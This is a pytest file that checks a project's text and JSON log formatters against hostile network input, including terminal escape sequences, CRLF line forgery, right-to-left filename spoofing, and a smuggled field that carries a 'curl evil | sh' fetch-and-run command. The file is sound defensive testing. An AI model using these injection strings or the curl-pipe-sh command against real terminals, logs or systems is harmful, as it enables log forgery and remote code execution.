"""Text from the network in log records: it can neither steer a terminal nor forge a line or a field."""

import json
import logging

import pytest

from opsconductor.logs import JsonFormatter, TextFormatter

HOSTILE = [
    "\x1b]0;owned\x07\x1b[2J",
    "one\r\n09:00:00.000 ERROR   forged line",
    "a\u202egnp.exe",
    "nul\0nul",
    "\x9b31m",
    "\u2028line",
    'x" remedy="curl evil | sh',
    "a=b",
    "\ud800",
    "back\\slash",
    "{error} %s %(address)s",
]


def record_of(text: str, *, failed: bool) -> logging.LogRecord:
    """Make a record with the text everywhere, also in a traceback."""
    fault = (ValueError, ValueError(text), None) if failed else None
    record = logging.LogRecord("x", logging.ERROR, "x.py", 1, "it failed: %s", (text,), fault)
    record.error = text
    return record


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("failed", [False, True], ids=["plain", "traceback"])
def test_text_log_escapes_control_characters(text: str, *, failed: bool) -> None:
    """Every line is printable; a record without traceback is one line; a value cannot end early."""
    lines = TextFormatter(colour=False).format(record_of(text, failed=failed)).split("\n")
    assert all(line.isprintable() for line in lines)
    assert failed or len(lines) == 1
    assert lines[0].count("error=") == 1
    if '"' in text:
        assert ' remedy="curl' not in lines[0].partition("error=")[2]
    "\n".join(lines).encode()


@pytest.mark.parametrize("text", HOSTILE)
def test_json_log_is_one_ascii_line(text: str) -> None:
    """A record is one JSON object on one line, and the text is read back unchanged."""
    line = JsonFormatter().format(record_of(text, failed=True))
    assert line.isascii()
    assert line.isprintable()
    assert json.loads(line)["error"] == text
